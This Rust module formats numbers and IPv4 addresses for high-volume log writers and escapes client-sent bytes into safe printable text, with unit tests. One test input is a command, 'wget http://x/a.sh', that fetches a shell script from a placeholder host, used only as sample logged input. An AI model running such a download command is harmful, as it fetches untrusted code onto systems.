//! Appending numbers and addresses to text without going through `fmt`: the log writers
//! put several on every line, at up to millions of lines a second.

use std::net::{IpAddr, Ipv4Addr};

/// Appends `n` in decimal.
pub fn push_u64(out: &mut String, n: u64) {
    push_ascii(out, itoa::Buffer::new().format(n).as_bytes());
}

/// Appends bytes that are ASCII in one copy. They are checked (`is_ascii` compares a word
/// at a time), so a caller's mistake costs replacement characters, never invalid UTF-8.
/// `str::from_utf8` would cost more than the copy for the short pieces the writers append.
pub fn push_ascii(out: &mut String, bytes: &[u8]) {
    if bytes.is_ascii() {
        // SAFETY: ASCII bytes are valid UTF-8 on their own, so `out` stays valid UTF-8.
        unsafe { out.as_mut_vec() }.extend_from_slice(bytes);
    } else {
        out.push_str(&String::from_utf8_lossy(bytes));
    }
}

/// Every octet value's decimal digits (three slots) and how many of them there are.
const OCTETS: [[u8; 4]; 256] = {
    let mut t = [[0u8; 4]; 256];
    let mut i = 0;
    while i < 256 {
        let v = i as u8;
        t[i] = if v >= 100 {
            [b'0' + v / 100, b'0' + v / 10 % 10, b'0' + v % 10, 3]
        } else if v >= 10 {
            [b'0' + v / 10, b'0' + v % 10, 0, 2]
        } else {
            [b'0' + v, 0, 0, 1]
        };
        i += 1;
    }
    t
};

/// An IPv4 address in dotted decimal, in a stack buffer: the text is `buf[..len]`.
fn ipv4_text(ip: Ipv4Addr) -> ([u8; 18], usize) {
    let mut buf = [b'.'; 18];
    let mut n = 0;
    for o in ip.octets() {
        let e = OCTETS[usize::from(o)];
        // Three bytes always; the next octet or the dot overwrites what is not used.
        buf[n..n + 3].copy_from_slice(&e[..3]);
        n += usize::from(e[3]);
        buf[n] = b'.';
        n += 1;
    }
    (buf, n - 1)
}

/// Appends an IPv4 address in dotted decimal to bytes.
pub fn extend_ipv4(out: &mut Vec<u8>, ip: Ipv4Addr) {
    let (buf, n) = ipv4_text(ip);
    out.extend_from_slice(&buf[..n]);
}

/// Appends an address in its canonical text form (IPv4 without `fmt`, in one piece).
pub fn push_ip(out: &mut String, ip: IpAddr) {
    match ip {
        IpAddr::V4(v4) => {
            let (buf, n) = ipv4_text(v4);
            push_ascii(out, &buf[..n]);
        }
        IpAddr::V6(v6) => {
            use std::fmt::Write;
            let _ = write!(out, "{v6}");
        }
    }
}

/// Appends bytes a client sent as safe text: valid UTF-8 as it is, except that a backslash
/// becomes `\\` and every control character (C0, DEL, C1) and every byte that is not part
/// of valid UTF-8 becomes `\xNN` per byte. The result is one printable line whatever the
/// client sent, and distinct inputs give distinct text. This is the convention of the text
/// fields of session events and HTTP requests ([`crate::SessionEvent`],
/// [`crate::HttpEvent`]); a payload head escapes all non-ASCII.
pub fn push_escaped(out: &mut String, bytes: &[u8]) {
    // Most of what clients send (header names and values, paths) is printable ASCII.
    if bytes
        .iter()
        .all(|&b| (0x20..0x7f).contains(&b) && b != b'\\')
    {
        push_ascii(out, bytes);
        return;
    }
    const HEX: &[u8; 16] = b"0123456789abcdef";
    let hex = |out: &mut String, b: u8| {
        out.push_str("\\x");
        out.push(char::from(HEX[usize::from(b >> 4)]));
        out.push(char::from(HEX[usize::from(b & 15)]));
    };
    for chunk in bytes.utf8_chunks() {
        for c in chunk.valid().chars() {
            match c {
                '\\' => out.push_str("\\\\"),
                c if c.is_control() => {
                    let mut buf = [0u8; 4];
                    for &b in c.encode_utf8(&mut buf).as_bytes() {
                        hex(out, b);
                    }
                }
                c => out.push(c),
            }
        }
        for &b in chunk.invalid() {
            hex(out, b);
        }
    }
}

/// [`push_escaped`] into a new string.
pub fn escape_bytes(bytes: &[u8]) -> String {
    let mut s = String::with_capacity(bytes.len());
    push_escaped(&mut s, bytes);
    s
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn escaping_keeps_utf8_and_nothing_unprintable() {
        assert_eq!(escape_bytes(b"wget http://x/a.sh"), "wget http://x/a.sh");
        assert_eq!(
            escape_bytes(b"a\\b\r\n\x00\x7f"),
            "a\\\\b\\x0d\\x0a\\x00\\x7f"
        );
        assert_eq!(escape_bytes("日本 é".as_bytes()), "日本 é");
        assert_eq!(
            escape_bytes(b"\xff\xfe ok \xe6\x97"),
            "\\xff\\xfe ok \\xe6\\x97"
        );
        // A C1 control in UTF-8 is escaped byte by byte.
        assert_eq!(escape_bytes("\u{85}".as_bytes()), "\\xc2\\x85");
    }

    #[test]
    fn same_as_display() {
        for n in [0u64, 7, 10, 99, 255, 65535, 1 << 40, u64::MAX] {
            let mut s = String::new();
            push_u64(&mut s, n);
            assert_eq!(s, n.to_string());
        }
        for ip in [
            "0.0.0.0",
            "198.51.100.7",
            "255.255.255.255",
            "10.0.0.1",
            "1.20.100.9",
            "99.100.9.10",
            "2001:db8::7",
        ] {
            let ip: IpAddr = ip.parse().unwrap();
            let mut s = String::new();
            push_ip(&mut s, ip);
            assert_eq!(s, ip.to_string());
            if let IpAddr::V4(v4) = ip {
                let mut b = Vec::new();
                extend_ipv4(&mut b, v4);
                assert_eq!(b, ip.to_string().into_bytes());
            }
        }
    }
}
